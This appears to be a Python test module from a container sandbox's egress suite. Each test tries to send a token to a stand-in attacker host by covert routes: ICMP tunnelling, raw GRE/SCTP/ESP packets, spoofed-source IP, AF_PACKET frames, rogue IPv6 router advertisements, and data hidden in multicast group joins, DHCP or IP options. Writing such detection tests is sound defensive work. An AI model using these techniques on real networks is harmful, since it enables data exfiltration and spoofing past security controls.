"""Protocols beside TCP and UDP, and packets that are made by hand."""
import socket
import struct
import time

from common import *

SOURCE = "172.30.0.2"


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data + b"\0" * (len(data) % 2)))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


@row("packet.ping", "nolabs-ai/nono#909; ptunnel", "wire proto=1 dst=203.0.113.66")
def _():
    """Echo requests with data, as any user may send them in a container."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sock:
        for _ in range(2):
            sock.sendto(struct.pack(">BBHHH", 8, 0, 0, 1, 1) + T * 4, (EVIL, 0))


@row("packet.ping6", "nolabs-ai/nono#909; ptunnel", "wire proto=58 dst=2001:db8:113::66")
def _():
    """Echo requests over IPv6."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6) as sock:
        for _ in range(2):
            sock.sendto(struct.pack(">BBHHH", 128, 0, 0, 1, 1) + T * 4, (EVIL6, 0))


@row("packet.ping_listed", "listed addresses are open to every protocol", "wire proto=1 dst=203.0.113.10")
def _():
    """Echo requests to a listed host."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sock:
        sock.sendto(struct.pack(">BBHHH", 8, 0, 0, 1, 1) + T * 4, (API, 0))


def raw(protocol, payload, address=EVIL, kind=socket.SOCK_RAW):
    with socket.socket(socket.AF_INET, kind, protocol) as sock:
        for _ in range(2):
            sock.sendto(payload, (address, 0))
            time.sleep(0.05)


def by_hand(name, protocol, source, sentence, head=b""):
    def send():
        raw(protocol, head + T * 4)
    send.__doc__ = sentence
    row(f"packet.{name}", source, f"wire proto={protocol} dst=203.0.113.66", user="raw")(send)


by_hand("icmp_raw", 1, "icmptunnel; CAP_NET_RAW is Docker's default", "Timestamp replies by hand, which nobody asked for.",
        b"\x0e\0\0\0")
by_hand("gre", 47, "RFC 2784", "A GRE tunnel by hand.", b"\0\0\x08\0")
by_hand("ipip", 4, "RFC 2003", "IP in IP by hand.")
by_hand("sctp", 132, "RFC 9260", "SCTP by hand.", struct.pack(">HHII", 9, 9, 0, 0))
by_hand("udplite", 136, "RFC 3828", "UDP-Lite by hand.", struct.pack(">HHHH", 9, 9, 8, 0))
by_hand("dccp", 33, "RFC 4340", "DCCP by hand.", struct.pack(">HH", 9, 9))
by_hand("esp", 50, "RFC 4303", "ESP by hand.")
by_hand("unassigned", 253, "RFC 3692", "A protocol number for experiments.")
by_hand("tcp_flags", 6, "nmap's scans: packets of no connection", "TCP without a connection, with odd flags.",
        struct.pack(">HHIIBBHHH", 9, 80, 1, 1, 0x50, 0x29, 100, 0, 0))


@row("packet.own_header", "IP_HDRINCL", "wire proto=17 src=203.0.113.77", user="raw")
def _():
    """A whole IP packet by hand, from another's address."""
    body = struct.pack(">HHHH", 9, 9, 8 + len(T), 0) + T
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, 17, 0,
                       socket.inet_aton("203.0.113.77"), socket.inet_aton(EVIL))
    raw(socket.IPPROTO_RAW, head + body)


@row("packet.packet_socket", "AF_PACKET passes no filter for IP", "wire proto=17 src=172.30.0.2 dport=9", user="raw")
def _():
    """A whole Ethernet frame by hand, past every rule for IP."""
    body = struct.pack(">HHHH", 9, 9, 8 + len(T), 0) + T
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, 17, 0,
                       socket.inet_aton(SOURCE), socket.inet_aton(EVIL))
    head = head[:10] + struct.pack(">H", checksum(head)) + head[12:]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind(("eth0", 0))
        sock.send(b"\xff" * 6 + bytes.fromhex("0242ac1e0002") + b"\x08\0" + head + body)


@row("packet.other_ether", "AF_PACKET: what is no IP at all", "wire ether=88b5", user="raw")
def _():
    """A frame of an experimental Ethernet type to all on the bridge."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind(("eth0", 0))
        sock.send(b"\xff" * 6 + bytes.fromhex("0242ac1e0002") + b"\x88\xb5" + T * 4)


@row("packet.router_advert", "CVE-2020-10749, CVE-2020-13401: rogue router advertisements", "wire proto=58 hex=86",
     user="raw")
def _():
    """A router advertisement that would have the neighbours send to us."""
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as sock:
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
        for _ in range(2):
            sock.sendto(struct.pack(">BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + T,
                        ("ff02::1", 0, 0, socket.if_nametoindex("eth0")))


@row("packet.igmp", "RFC 3376: the kernel reports whatever group a user joins", "wire proto=2 ef{t6}")
def _():
    """The data is in the multicast group that is joined, which the kernel tells the bridge."""
    octets = bytes([239]) + bytes.fromhex(TOKEN[2:])
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        index = socket.if_nametoindex("eth0")
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                        struct.pack("=4s4si", octets, socket.inet_aton(SOURCE), index))
        time.sleep(1.5)


@row("packet.mld", "RFC 3810: the kernel reports whatever group a user joins", "wire hex= ff1e {t}")
def _():
    """The data is in the IPv6 group that is joined, which the kernel tells the bridge."""
    group = socket.inet_pton(socket.AF_INET6, f"ff1e::{TOKEN[:4]}:{TOKEN[4:]}")
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP,
                        group + struct.pack("=I", socket.if_nametoindex("eth0")))
        time.sleep(1.5)


@row("packet.multicast", "SSDP; multicast is in no list", "wire dst=239.255.255.250 dport=1900")
def _():
    """Multicast to the bridge."""
    udp("239.255.255.250", 1900, b"M-SEARCH * HTTP/1.1\r\nST: " + T + b"\r\n\r\n")


@row("packet.multicast6", "RFC 4291, 2.7", "wire dst=ff02::1")
def _():
    """IPv6 multicast to all on the bridge."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        for _ in range(2):
            sock.sendto(T, ("ff02::1", ECHO, 0, socket.if_nametoindex("eth0")))


@row("packet.broadcast", "RFC 919", "wire dst=172.30.0.255")
def _():
    """The bridge's broadcast address."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.sendto(T, ("172.30.0.255", ECHO))


@row("packet.broadcast_dhcp", "RFC 2131: options carry data", "wire dst=255.255.255.255 dport=67")
def _():
    """A question for an address, to everybody."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
        sock.sendto(b"\1\1\6\0" + b"\0" * 232 + b"\x63\x82\x53\x63" + b"\x0c\x08" + T + b"\xff", ("255.255.255.255", 67))


@row("packet.fragments", "only a datagram's first fragment has ports", "wire proto=17 dst=203.0.113.66")
def _():
    """A large datagram in fragments; the data is in the last one."""
    udp(EVIL, ECHO, b"x" * 6000 + T)


@row("packet.fragments6", "RFC 8200, 4.5", "wire proto=44 dst=2001:db8:113::66")
def _():
    """A large datagram in fragments over IPv6."""
    udp(EVIL6, ECHO, b"x" * 6000 + T)


@row("packet.options", "RFC 791: options that routers write into", "wire proto=17 dst=203.0.113.66")
def _():
    """The data is in the options of the IP header."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        option = b"\x07" + bytes([3 + 8]) + b"\x04" + T + b"\0"
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, option)
        for _ in range(2):
            sock.sendto(T, (EVIL, ECHO))
